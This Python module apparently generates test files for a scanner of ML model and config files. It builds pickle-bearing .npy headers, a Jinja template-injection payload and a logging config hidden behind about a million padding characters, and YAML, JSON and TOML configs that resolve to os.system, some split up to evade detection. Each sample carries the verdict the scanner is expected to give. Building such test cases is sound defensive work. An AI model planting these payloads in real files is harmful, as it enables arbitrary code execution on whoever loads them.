"""Programs where nobody looks: in configurations of single frameworks, behind padding, in metadata, in data."""

from __future__ import annotations

import json
import struct
from collections.abc import Callable, Iterator
from typing import Any, Final

from .assembly import Attack, Payload

_PADDING: Final = 1_100_000


def _npy(descr: str, shape: str) -> Callable[[Payload], bytes]:
    def build(payload: Payload) -> bytes:
        header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}\n".encode()
        return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header + payload.pickle

    return build


def _logging(payload: Payload) -> bytes:
    head = "#" + "x" * _PADDING + "\n[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
    return f"{head}[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=({payload.code},)\n".encode()


def _template(payload: Payload) -> bytes:
    return f"{{# {'x' * _PADDING} #}}{{{{ cycler.__init__.__globals__.os.system('{payload.shell}') }}}}".encode()


LOADED: Final[dict[str, tuple[Callable[[Payload], bytes], str, str, str]]] = {
    "npy of fields in one text": (_npy("'i4,O'", "(1,)"), "numpy", "MALICIOUS", ".npy"),
    "npy of an array in each element": (_npy("('O', (1,))", "(1,)"), "numpy", "MALICIOUS", ".npy"),
    "npy with a number of Python 2": (_npy("'|O'", "(1L,)"), "numpy", "MALICIOUS", ".npy"),
    "template behind padding": (_template, "jinja", "MALICIOUS", ".jinja"),
    "configuration of logging behind padding": (_logging, "logging", "MALICIOUS", ".ini"),
}
"""By the real loader, what a scan must find at least, and the ending of the name."""


def _json(document: Callable[[Payload], Any]) -> Callable[[Payload], bytes]:
    return lambda payload: json.dumps(document(payload)).encode()


OTHERS: Final[dict[str, tuple[Callable[[Payload], bytes], str, str]]] = {
    "MONAI expression": (_json(lambda p: {"device": f"$__import__('os').system({p.shell!r})"}), "", ".json"),
    "MONAI expression in pieces": (
        _json(lambda p: {"a": "$__import__('o' + 's')", "b": f"$getattr(@a, 'sys' + 'tem')({p.shell!r})"}),
        "",
        ".json",
    ),
    "monty callable": (_json(lambda p: {"@module": "os", "@callable": "system", "@bound": None}), "", ".json"),
    "GluonTS instance": (
        _json(lambda p: {"__kind__": "instance", "class": "os.system", "args": [p.shell]}),
        "",
        ".json",
    ),
    "torchtune component": (lambda p: f"m:\n  _component_: os.system\n  command: {p.shell}\n".encode(), "", ".yaml"),
    "hydra target that copies": (
        lambda p: f"m:\n  _target_: shutil.copyfile\n  src: x\n  dst: {p.marker}\n".encode(),
        "CVE-2025-23304",
        ".yaml",
    ),
    "HyperPyYAML applyref": (lambda p: f"a: !applyref:os.system\n  - {p.shell}\n".encode(), "", ".yaml"),
    "model_class of MLflow": (
        lambda p: b"flavors:\n  xgboost:\n    model_class: os.abort\n    model_format: xgb\n",
        "",
        "",
    ),
    "layer of YOLO that is evaluated": (
        lambda p: f"backbone:\n  - [-1, 1, \"__import__('os').system('{p.shell}')\", [64]]\n".encode(),
        "",
        ".yaml",
    ),
    "SavedModel as text": (
        lambda p: b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "a" op: "WriteFile" } } }\n',
        "",
        ".pbtxt",
    ),
    "shard outside the folder": (_json(lambda p: {"weight_map": {"a": "../../x/pytorch_model.bin"}}), "", ".json"),
    "configuration in TOML": (lambda p: f'[m]\n_target_ = "os.system"\ncommand = "{p.shell}"\n'.encode(), "", ".toml"),
    "document in a text": (_json(lambda p: {"config": json.dumps({"_target_": "os.system"})}), "", ".json"),
}
NOT_CLEAN: Final[dict[str, tuple[Callable[[Payload], bytes], str]]] = {
    "table of Kaldi with a command": (lambda p: f"utt1 {p.shell} |\n".encode(), ".scp"),
    "layer of Caffe in Python": (
        lambda p: b'layer {\n  type: "Python"\n  python_param {\n    module: "evil"\n    layer: "L"\n  }\n}\n',
        ".prototxt",
    ),
    "adapter for a Megatron of its own": (
        _json(lambda p: {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "evil"}),
        ".json",
    ),
    "what R saves as text": (lambda p: b"A\n3\n262656\n197888\n5\nUTF-8\n16\n1\n262153\n1\na\n", ".rds"),
}


def attacks() -> Iterator[Attack]:
    """One file for each."""
    for name, (build, loader, expected, suffix) in LOADED.items():
        yield Attack(name, "other formats", build, loader, expected=expected, suffix=suffix)
    for name, (build, advisory, suffix) in OTHERS.items():
        yield Attack(name, "other formats", build, "", advisory, suffix=suffix)
    for name, (build, suffix) in NOT_CLEAN.items():
        yield Attack(name, "other formats", build, "", expected="UNKNOWN", suffix=suffix)
